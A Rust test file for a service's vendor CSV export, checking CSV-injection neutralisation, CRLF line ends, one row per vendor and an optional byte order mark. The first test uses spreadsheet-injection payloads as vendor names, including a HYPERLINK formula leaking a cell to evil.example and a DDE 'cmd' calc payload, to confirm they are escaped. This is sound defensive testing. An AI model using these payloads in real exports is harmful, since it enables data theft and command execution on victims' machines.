//! The public CSV: no live formulas (OWASP CSV injection), CRLF line ends, one row per vendor
//! even without a transfer, a vendor key column, and a UTF-8 BOM on request.

use serde_json::json;

use crate::support::{ALL_SCOPES, create_vendor, new_vendor, spawn_app};

async fn csv(app: &crate::support::TestApp, query: &str) -> Vec<u8> {
    let response = app.get(&format!("/arturia/subprocessors.csv{query}")).await;
    assert_eq!(response.status(), 200);
    response.bytes().await.unwrap().to_vec()
}

#[actix_web::test]
async fn formulas_are_neutralised_lines_end_in_crlf_and_the_key_is_a_column() {
    let app = spawn_app().await;
    let token = app.token("tool", ALL_SCOPES);
    let names = [
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "-2+3",
    ];
    for (i, name) in names.iter().enumerate() {
        let mut vendor = new_vendor(&format!("evil-{i}"), name);
        vendor["status"] = json!("active");
        vendor["active_from"] = json!(crate::support::today());
        vendor["urgent_reason"] = json!("Test");
        create_vendor(&app, &token, "arturia", &vendor)
            .await
            .ok(201);
    }
    let body = String::from_utf8(csv(&app, "").await).unwrap();
    assert!(
        body.starts_with("organisation,as_of,vendor_key,vendor,"),
        "{body}"
    );
    assert!(body.ends_with("\r\n"));
    assert!(!body.replace("\r\n", "").contains('\n') || body.contains('"'));
    let mut reader = ::csv::Reader::from_reader(body.as_bytes());
    let rows: Vec<::csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    for (i, name) in names.iter().enumerate() {
        let row = rows
            .iter()
            .find(|r| r[2] == format!("evil-{i}"))
            .unwrap_or_else(|| panic!("a row for evil-{i}"));
        assert_eq!(
            &row[3],
            format!("'{name}"),
            "the cell is text, not a formula"
        );
    }
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{cell}"
            );
        }
    }
}

#[actix_web::test]
async fn every_vendor_has_a_row_even_without_a_transfer() {
    let app = spawn_app().await;
    let json = app.get_json("/qobuz/subprocessors.json").await;
    let vendors: Vec<String> = json["vendors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["key"].as_str().unwrap().to_string())
        .collect();
    let response = app.get("/qobuz/subprocessors.csv").await;
    let body = response.text().await.unwrap();
    let mut reader = ::csv::Reader::from_reader(body.as_bytes());
    let keys: std::collections::BTreeSet<String> = reader
        .records()
        .map(|r| r.unwrap()[2].to_string())
        .collect();
    assert_eq!(keys, vendors.into_iter().collect(), "{body}");
}

#[actix_web::test]
async fn a_byte_order_mark_on_request_for_spreadsheets() {
    let app = spawn_app().await;
    let plain = csv(&app, "").await;
    assert!(!plain.starts_with(b"\xEF\xBB\xBF"));
    let marked = csv(&app, "?bom=true").await;
    assert!(marked.starts_with(b"\xEF\xBB\xBF"));
    assert_eq!(&marked[3..], &plain[..]);
    let response = app.get("/arturia/subprocessors.csv?bom=maybe").await;
    assert_eq!(response.status(), 400);
}
